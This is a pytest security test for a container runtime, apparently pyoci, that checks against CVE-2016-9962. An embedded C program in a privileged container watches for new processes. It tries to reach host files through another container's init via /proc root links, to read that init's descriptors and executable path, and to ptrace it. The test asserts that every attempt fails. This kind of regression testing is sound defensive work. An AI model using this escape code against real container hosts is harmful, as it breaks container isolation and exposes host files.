"""What a container can do to the init of another that joins its pid and user namespaces, with every capability there.

Each defence was taken out of a copy of the tree to see the test fail; the docstrings say which.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from containers import Bundle, Container, Pyoci, compile_static
from race import rounds

# Without a pause it tries every process that comes: to open a file of the host by way of it, to list its descriptors,
# and to trace it. What it gets of a program that the image holds is its right.
SPY = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>
static char path[600], exe[256];
static const char *of(int pid, const char *name)
{
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return path;
}
static int is_init(int pid)
{
    long size = readlink(of(pid, "exe"), exe, sizeof exe - 1);
    exe[size < 0 ? 0 : size] = 0;
    return strstr(exe, "pyoci") != 0;
}
static int is_named_init(int pid)
{
    char comm[32] = "";
    int fd = open(of(pid, "comm"), O_RDONLY);
    int is = read(fd, comm, sizeof comm - 1) > 0 && (strstr(comm, "pyoci") || (comm[0] >= '0' && comm[0] <= '9'));
    close(fd);
    return is;
}
int main(int argc, char **argv)
{
    char host[512];
    (void)argc;
    snprintf(host, sizeof host, "root%s", argv[1]);
    puts("ready"), fflush(stdout);
    for (int newest = getpid();;)
        for (int pid = newest + 1; pid < newest + 60; pid++) {
            if (access(of(pid, ""), F_OK))
                continue;
            if (pid > newest + 50)
                newest = pid - 10;
            if (open(of(pid, host), O_RDWR) >= 0)
                printf("root of %d\n", pid), fflush(stdout), exit(0);
            if (is_init(pid))
                printf("exe of %d is %s\n", pid, exe), fflush(stdout), exit(0);
            int fd = open(of(pid, "fd"), O_RDONLY);
            if (fd >= 0 && is_init(pid))
                printf("descriptors of %d\n", pid), fflush(stdout), exit(0);
            close(fd);
            if (is_named_init(pid) && !ptrace(PTRACE_SEIZE, pid, 0, 0)) {
                if (is_init(pid))
                    printf("traced %d\n", pid), fflush(stdout), exit(0);
                ptrace(PTRACE_INTERRUPT, pid, 0, 0), waitpid(pid, 0, __WALL), ptrace(PTRACE_DETACH, pid, 0, 0);
            }
        }
}
"""
CAPABILITIES = ("CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_SYS_ADMIN", "CAP_KILL", "CAP_FOWNER")


def mate_of(victim: Bundle, spy: Container) -> None:
    """Makes the container one that joins the namespaces of `spy`."""
    victim.user_namespace()
    del victim.linux["uidMappings"], victim.linux["gidMappings"]
    for kind, name in (("user", "user"), ("pid", "pid"), ("network", "net"), ("ipc", "ipc"), ("uts", "uts")):
        victim.namespace(kind, f"/proc/{spy.pid}/ns/{name}")
    victim.unmount("/sys")


def look_into_new_inits(new_bundle: Callable[[str], Bundle], pyoci: Pyoci, directory: Path, time: str) -> None:
    secret = directory / "secret"
    secret.write_text("of the host")
    secret.chmod(0o666)
    attacker = new_bundle("attacker").user_namespace().capabilities(*CAPABILITIES)
    compile_static(SPY, attacker.rootfs / "spy")
    spy = pyoci.run_detached(attacker.args("/spy", str(secret))).expect("ready")
    victim = new_bundle("victim").args("true")
    mate_of(victim, spy)
    if time != "host's time":
        victim.namespace("time")
    if time == "shifted clocks":
        victim.linux["timeOffsets"] = {"boottime": {"secs": 77}}
    for _ in range(rounds(20)):
        result = pyoci.run(victim, check=False)
        assert spy.output == "ready\n"
        assert result.code == 0, result
    assert spy.status == "running"


@pytest.mark.parametrize("time", ["new time namespace", "shifted clocks", "host's time"])
def test_no_pod_mate_looks_into_a_new_init(
    new_bundle: Callable[[str], Bundle], pyoci: Pyoci, directory: Path, time: str
) -> None:
    """CVE-2016-9962: init has the host's root and descriptors of it, until it has entered its own.

    The first two fail with an init that the user namespace can read (mode 0755, spawn.py, init_program), which it was
    for a new time namespace's sake.
    """
    look_into_new_inits(new_bundle, pyoci, directory, time)


def test_nor_where_init_is_no_memory_file(
    new_bundle: Callable[[str], Bundle], pyoci_noexec: Pyoci, directory: Path
) -> None:
    """Fails with mode 0755 in linux/program_in_tmpfs.py."""
    look_into_new_inits(new_bundle, pyoci_noexec, directory, "shifted clocks")
